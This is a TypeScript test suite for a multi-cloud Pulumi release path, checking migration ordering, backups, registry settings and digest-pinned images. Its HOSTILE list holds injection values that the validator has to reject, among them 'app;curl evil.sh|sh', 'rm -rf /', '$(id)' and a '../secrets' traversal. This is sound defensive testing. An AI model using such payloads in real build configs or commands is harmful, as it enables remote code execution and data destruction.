import * as assert from "assert";
import { runStackThroughEngine } from "../tools/engine/launch";
import { execFileSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { DIGEST_PINNED, gitCommit, releaseName } from "../components/release";
import { shellCommand, shellQuote } from "../components/shell";
import type { Cloud } from "../config/schema";
import type { RecordedResource, RunResult, StackConfigInput } from "../tools/harness";
import { cloudsUnderTest } from "./clouds";
import { assertOrdered, dependencyGraph, transitiveDependencies } from "./release-graph";
import { STACKS, deploy, ofType, only, rejected } from "./support";

/**
 * The release path on every cloud x stack, read from the recorded dependency graph: the stack's
 * registry, the image (built and pushed by digest, or a digest-pinned reference in production),
 * and the migration step, which the API and the worker depend on, so none of them can roll before
 * the migrations of the new revision completed (and, in production, before the backup named after
 * the release). Then the `build` key and hostile image/build values.
 */

const STEP = "command:local:Command";
const IMAGE = "docker-build:index:Image";
const PINNED = /@sha256:[0-9a-f]{64}$/;

interface CloudRelease {
    /** The services that roll: API (and its slot), worker. */
    services: string[];
    /** The resource that runs the migrations to completion. */
    migrationStep(r: RunResult): RecordedResource;
    /** The new migrations task definition / job revision the step runs. */
    migrationRevision(r: RunResult): RecordedResource;
    /** The stack's registry (undefined on Kubernetes, whose registry is external). */
    registry?: string;
    /** The image the API runs, as the cloud receives it. */
    apiImage(r: RunResult): string;
    /** Stack overrides for a build from source. */
    buildOverrides: Record<string, unknown>;
}

const commandStep = (r: RunResult) => only(r, STEP, "-migrate");
const RELEASE: Record<Cloud, CloudRelease> = {
    aws: {
        services: ["aws:ecs/service:Service"],
        migrationStep: commandStep,
        migrationRevision: (r) => only(r, "aws:ecs/taskDefinition:TaskDefinition", "-migrations"),
        registry: "aws:ecr/repository:Repository",
        apiImage: (r) => JSON.parse(only(r, "aws:ecs/taskDefinition:TaskDefinition", "-api").plainInputs.containerDefinitions)[0].image,
        buildOverrides: {},
    },
    gcp: {
        services: ["gcp:cloudrunv2/service:Service"],
        migrationStep: commandStep,
        migrationRevision: (r) => only(r, "gcp:cloudrunv2/job:Job"),
        registry: "gcp:artifactregistry/repository:Repository",
        apiImage: (r) => only(r, "gcp:cloudrunv2/service:Service", "-api").plainInputs.template.containers[0].image,
        buildOverrides: {},
    },
    azure: {
        services: ["azure-native:web:WebApp", "azure-native:web:WebAppSlot", "azure-native:app:ContainerApp"],
        migrationStep: commandStep,
        migrationRevision: (r) => only(r, "azure-native:app:Job"),
        registry: "azure-native:containerregistry:Registry",
        apiImage: (r) => String(only(r, "azure-native:web:WebApp").plainInputs.siteConfig.linuxFxVersion).replace(/^DOCKER\|/, ""),
        buildOverrides: {},
    },
    kubernetes: {
        services: ["kubernetes:apps/v1:Deployment"],
        // Pulumi's Kubernetes provider waits for a Job to complete before its dependents.
        migrationStep: (r) => only(r, "kubernetes:batch/v1:Job"),
        migrationRevision: (r) => only(r, "kubernetes:batch/v1:Job"),
        apiImage: (r) => only(r, "kubernetes:apps/v1:Deployment", "-api").plainInputs.spec.template.spec.containers[0].image,
        buildOverrides: { kubernetes: { imageRegistry: "registry.example.com/acme/api" } },
    },
};

const onCloud = (cloud: Cloud, overrides: Record<string, unknown> = {}): StackConfigInput => ({ overrides: { cloud, ...overrides } });
const BUILD = (cloud: Cloud): StackConfigInput =>
    onCloud(cloud, { image: "", build: { context: "app", dockerfile: "app/Dockerfile.prod", target: "production", platform: "linux/arm64", args: ["PYTHON_VERSION=3.12"], tag: "c0ffee123456" }, ...RELEASE[cloud].buildOverrides });

function servicesOf(r: RunResult, cloud: Cloud): RecordedResource[] {
    const services = RELEASE[cloud].services.flatMap((type) => ofType(r, type));
    assert.ok(services.length >= 2, `expected the API and the worker, found ${services.map((s) => s.name).join(", ")}`);
    return services;
}

for (const [cloud] of cloudsUnderTest()) {
    const release = RELEASE[cloud];
    for (const stack of STACKS) {
        const production = stack === "prod";
        describe(`release path: ${cloud} ${stack}`, () => {
            let r: RunResult;
            let graph: Map<string, string[]>;
            before(async () => {
                r = await deploy(stack, onCloud(cloud));
                graph = dependencyGraph(r);
            });

            it("keeps that order under the real entry point (cmd/run over gRPC, preview)", async function () {
                this.timeout(180_000);
                const real = await runStackThroughEngine(stack, { ...onCloud(cloud), preview: true });
                assert.ok(!real.error, real.error?.message);
                const realGraph = dependencyGraph(real);
                for (const service of servicesOf(real, cloud)) assertOrdered(realGraph, release.migrationStep(real), service);
            });

            it("rolls the API and the worker only after the migration step", () => {
                const step = release.migrationStep(r);
                for (const service of servicesOf(r, cloud)) assertOrdered(graph, step, service);
            });

            it("runs the migrations of the new task definition / job revision", () => {
                if (release.migrationStep(r) === release.migrationRevision(r)) return; // Kubernetes: the Job is both
                assertOrdered(graph, release.migrationRevision(r), release.migrationStep(r));
                assert.ok(!transitiveDependencies(graph, release.migrationRevision(r).urn).has(release.migrationStep(r).urn));
            });

            it(production ? "backs the database up, named after the release, before migrating" : "migrates without a backup", () => {
                const name = releaseName({ reference: apiImageOf(r) });
                if (cloud === "kubernetes") {
                    const backups = ofType(r, "kubernetes:postgresql.cnpg.io/v1:Backup");
                    assert.strictEqual(backups.length, production ? 1 : 0);
                    if (!production) return;
                    assert.ok(String(backups[0].plainInputs.metadata.name).includes(name));
                    const wait = only(r, STEP, "-pre-migration-backup-wait");
                    assert.match(wait.plainInputs.create, /kubectl -n \S+ wait backup\/\S+ '--for=jsonpath=\{\.status\.phase\}=completed'/);
                    assertOrdered(graph, backups[0], wait);
                    assertOrdered(graph, wait, release.migrationStep(r));
                    return;
                }
                const script: string = release.migrationStep(r).plainInputs.create;
                const backup = { aws: "create-db-snapshot", gcp: "gcloud sql backups create", azure: "flexible-server backup create" }[cloud];
                const run = { aws: "run-task", gcp: "gcloud run jobs execute", azure: "az containerapp job start" }[cloud];
                assert.ok(script.startsWith("set -eu\n"), "a failing line stops the step");
                assert.ok(script.includes(run), script);
                assert.strictEqual(script.includes(backup), production, script);
                if (production) {
                    assert.ok(script.indexOf(backup) < script.indexOf(run), "the backup comes first");
                    assert.ok(script.includes(name), `the backup is named after the release ${name}`);
                }
            });

            it("re-runs the step when the image or the migration command changes, never in a preview", () => {
                if (cloud === "kubernetes") {
                    // The Job's name hashes its image and command: a new release is a new Job.
                    assert.match(String(release.migrationStep(r).plainInputs.metadata.name), /^migrate-[0-9a-f]{10}$/);
                    return;
                }
                const step = release.migrationStep(r).plainInputs;
                assert.deepStrictEqual(step.triggers, [apiImageOf(r), JSON.stringify(["alembic", "upgrade", "head"])]);
                assert.deepStrictEqual(step.interpreter, ["/bin/sh", "-c"]);
                // @pulumi/command runs `create` on up only; a preview shows it and runs nothing.
                assert.strictEqual(step.update, undefined);
            });

            it(`runs a digest-pinned image${release.registry ? ", with the stack's own registry" : ""}`, () => {
                assert.match(release.apiImage(r), PINNED);
                assert.strictEqual(ofType(r, IMAGE).length, 0, "a prebuilt image builds nothing");
                if (!release.registry) return;
                const registry = only(r, release.registry).plainInputs;
                if (cloud === "aws") {
                    assert.strictEqual(registry.imageTagMutability, "IMMUTABLE");
                    assert.deepStrictEqual(registry.imageScanningConfiguration, { scanOnPush: true });
                    assert.deepStrictEqual(registry.encryptionConfigurations, [{ encryptionType: "AES256" }]);
                    assert.strictEqual(registry.forceDelete, !production);
                    const lifecycle = JSON.parse(only(r, "aws:ecr/lifecyclePolicy:LifecyclePolicy").plainInputs.policy);
                    assert.deepStrictEqual(lifecycle.rules.map((rule: any) => rule.selection.tagStatus), ["untagged", "any"]);
                    const pull = JSON.parse(only(r, "aws:iam/rolePolicy:RolePolicy", "-execution-pull-images").plainInputs.policy);
                    assert.deepStrictEqual(pull.Statement[1].Resource, only(r, release.registry).state.arn);
                } else if (cloud === "gcp") {
                    assert.strictEqual(registry.format, "DOCKER");
                    assert.deepStrictEqual(registry.dockerConfig, { immutableTags: true });
                    assert.deepStrictEqual(registry.cleanupPolicies.map((p: any) => p.action), ["DELETE", "KEEP"]);
                    assert.deepStrictEqual(registry.vulnerabilityScanningConfig, { enablementConfig: "INHERITED" });
                    const pull = only(r, "gcp:artifactregistry/repositoryIamMember:RepositoryIamMember").plainInputs;
                    assert.strictEqual(pull.role, "roles/artifactregistry.reader");
                    assert.match(pull.member, /^serviceAccount:service-\d+@serverless-robot-prod\.iam\.gserviceaccount\.com$/);
                    for (const service of servicesOf(r, cloud)) assertOrdered(graph, only(r, "gcp:artifactregistry/repositoryIamMember:RepositoryIamMember"), service);
                } else if (cloud === "azure") {
                    assert.strictEqual(registry.adminUserEnabled, false);
                    assert.strictEqual(registry.anonymousPullEnabled, false);
                    assert.strictEqual(registry.sku.name, production ? "Premium" : "Basic");
                    assert.match(registry.registryName, /^[a-z0-9]{5,50}$/);
                    const pull = only(r, "azure-native:authorization:RoleAssignment", "-pulls-images").plainInputs;
                    assert.match(pull.roleDefinitionId, /roleDefinitions\/7f951dda-4ed3-4680-a7ca-43fe172d538d$/);
                    assert.strictEqual(pull.principalId, only(r, "azure-native:managedidentity:UserAssignedIdentity").state.principalId);
                    const site = only(r, "azure-native:web:WebApp").plainInputs.siteConfig;
                    assert.strictEqual(site.acrUseManagedIdentityCreds, true);
                    assert.strictEqual(site.acrUserManagedIdentityID, only(r, "azure-native:managedidentity:UserAssignedIdentity").state.clientId);
                    for (const app of [only(r, "azure-native:app:ContainerApp"), only(r, "azure-native:app:Job")]) {
                        assert.deepStrictEqual(app.plainInputs.configuration.registries, [{ server: `${registry.registryName}.azurecr.io`, identity: only(r, "azure-native:managedidentity:UserAssignedIdentity").state.id }]);
                    }
                }
            });
        });
    }

    describe(`release path: ${cloud}, built from source`, () => {
        let r: RunResult;
        let graph: Map<string, string[]>;
        before(async () => {
            r = await deploy("staging", BUILD(cloud));
            graph = dependencyGraph(r);
        });

        it("builds the image with every build setting and pushes it (on up only) tagged with the release", () => {
            const image = only(r, IMAGE).plainInputs;
            assert.strictEqual(image.push, true);
            assert.deepStrictEqual(image.context, { location: "app" });
            assert.deepStrictEqual(image.dockerfile, { location: "app/Dockerfile.prod" });
            assert.strictEqual(image.target, "production");
            assert.deepStrictEqual(image.platforms, ["linux/arm64"]);
            assert.deepStrictEqual(image.buildArgs, { PYTHON_VERSION: "3.12" });
            assert.strictEqual(image.tags.length, 1);
            assert.match(image.tags[0], /:c0ffee123456$/);
            assert.strictEqual(image.registries, undefined, "no registry password in the inputs: pushes use the host's login");
        });

        it("pushes to the stack's registry and runs the pushed digest ahead of the migration step", () => {
            const image = only(r, IMAGE);
            const pushed = image.state.ref as string;
            assert.match(pushed, PINNED);
            assert.strictEqual(RELEASE[cloud].apiImage(r), pushed);
            if (RELEASE[cloud].registry) assertOrdered(graph, only(r, RELEASE[cloud].registry!), image);
            else assert.ok(image.plainInputs.tags[0].startsWith("registry.example.com/acme/api:"));
            assertOrdered(graph, image, RELEASE[cloud].migrationStep(r));
            for (const service of servicesOf(r, cloud)) {
                assertOrdered(graph, image, service);
                assertOrdered(graph, RELEASE[cloud].migrationStep(r), service);
            }
        });
    });
}

const KEY = (key: string) => new RegExp(`fastapi-platform:${key.replace(/[.]/g, "\\.")}(?![A-Za-z0-9_])`);
const HOSTILE: { title: string; stack: "staging" | "prod"; overrides: Record<string, unknown>; key: string; hint?: RegExp }[] = [
    { title: "a build context outside the project", stack: "staging", overrides: { image: "", build: { context: "../secrets" } }, key: "build.context", hint: /no '\.\.'/ },
    { title: "an absolute build context", stack: "staging", overrides: { image: "", build: { context: "/etc" } }, key: "build.context" },
    { title: "a shell command as build context", stack: "staging", overrides: { image: "", build: { context: "app;curl evil.sh|sh" } }, key: "build.context" },
    { title: "a substitution as dockerfile", stack: "staging", overrides: { image: "", build: { context: "app", dockerfile: "$(id)" } }, key: "build.dockerfile" },
    { title: "an option as build target", stack: "staging", overrides: { image: "", build: { context: "app", target: "--privileged" } }, key: "build.target" },
    { title: "a platform no cloud runs", stack: "staging", overrides: { image: "", build: { context: "app", platform: "windows/amd64" } }, key: "build.platform", hint: /linux\/amd64, linux\/arm64/ },
    { title: "a multi-line build argument", stack: "staging", overrides: { image: "", build: { context: "app", args: ["A=1\nRUN curl evil"] } }, key: "build.args", hint: /NAME=value|control or invisible character/ },
    { title: "a build argument without a name", stack: "staging", overrides: { image: "", build: { context: "app", args: ["=x"] } }, key: "build.args" },
    { title: "a tag with a colon", stack: "staging", overrides: { image: "", build: { context: "app", tag: "1.0:latest" } }, key: "build.tag" },
    { title: "build settings without a context", stack: "staging", overrides: { build: { tag: "v1" } }, key: "build.context" },
    { title: "both an image and a build", stack: "staging", overrides: { build: { context: "app" } }, key: "build.context", hint: /either runs a prebuilt image or builds one/ },
    { title: "neither an image nor a build", stack: "staging", overrides: { image: "" }, key: "image", hint: /is required/ },
    { title: "an image with a shell command", stack: "staging", overrides: { image: "ghcr.io/acme/api:1;rm -rf /" }, key: "image" },
    { title: "an image with an option", stack: "staging", overrides: { image: "ghcr.io/acme/api:1 --privileged" }, key: "image" },
    { title: "a production image by tag only", stack: "prod", overrides: { image: "ghcr.io/acme/fastapi-backend:1.5.0" }, key: "image", hint: /digest-pinned|OCI image reference/ },
    { title: "a production image with a short digest", stack: "prod", overrides: { image: "ghcr.io/acme/fastapi-backend@sha256:abc123" }, key: "image", hint: /digest-pinned|OCI image reference/ },
    { title: "a production worker image by tag only", stack: "prod", overrides: { workerImage: "ghcr.io/acme/worker:2" }, key: "workerImage", hint: /digest-pinned/ },
];

describe("release path: hostile image and build values", () => {
    for (const c of HOSTILE) {
        it(`rejects ${c.title} (${c.stack}), naming ${c.key}, before any resource`, async () => {
            const message = await rejected(c.stack, { overrides: c.overrides });
            assert.match(message, KEY(c.key));
            if (c.hint) assert.match(message, c.hint);
        });
    }

    it("deploys production from source: the pushed digest is what runs", async () => {
        const r = await deploy("prod", { overrides: { image: "", build: { context: "app", tag: "v1.5.0" } } });
        assert.match(RELEASE.aws.apiImage(r), PINNED);
        assert.ok(String(RELEASE.aws.migrationStep(r).plainInputs.create).includes(releaseName({ buildTag: "v1.5.0" })));
    });
});

describe("release path: naming, quoting and the git commit", () => {
    it("quotes every word so a value never ends it or starts a command", () => {
        for (const word of ["plain", "two words", "it's", "$(id)", "`id`", "a;b", "x\ny", "--flag", "'", ""]) {
            const echoed = execFileSync("/bin/sh", ["-c", `printf %s ${shellQuote(word)}`], { encoding: "utf8" });
            assert.strictEqual(echoed, word);
        }
        assert.strictEqual(shellCommand(["gcloud", "run", "jobs", "execute", "my-job"]), "gcloud run jobs execute my-job");
    });

    it("names a release after its build tag, digest or tag, in a form every cloud's backup name accepts", () => {
        assert.strictEqual(releaseName({ buildTag: "C0FFEE_12.x" }), "r-c0ffee-12-x");
        assert.strictEqual(releaseName({ reference: `ghcr.io/acme/api:1.4.2@sha256:${"ab".repeat(32)}` }), "r-sha256-abababababab");
        assert.strictEqual(releaseName({ reference: "ghcr.io/acme/api:1.4.2" }), "r-1-4-2");
        assert.strictEqual(releaseName({ reference: "localhost:5000/api" }), "r-latest");
        assert.ok(DIGEST_PINNED.test(`a@sha256:${"0".repeat(64)}`) && !DIGEST_PINNED.test("a:1"));
    });

    it("reads the git commit where there is a repository, and answers undefined (no throw) where there is none", () => {
        assert.match(gitCommit(path.join(__dirname, ".."))!, /^[0-9a-f]{12}$/);
        const outside = fs.mkdtempSync(path.join(os.tmpdir(), "no-git-"));
        try {
            assert.strictEqual(gitCommit(outside), undefined);
        } finally {
            fs.rmSync(outside, { recursive: true, force: true });
        }
    });
});

/** The API's image as the stack file gives it (prebuilt). */
function apiImageOf(r: RunResult): string {
    return RELEASE[r.outputs.cloud as Cloud].apiImage(r);
}
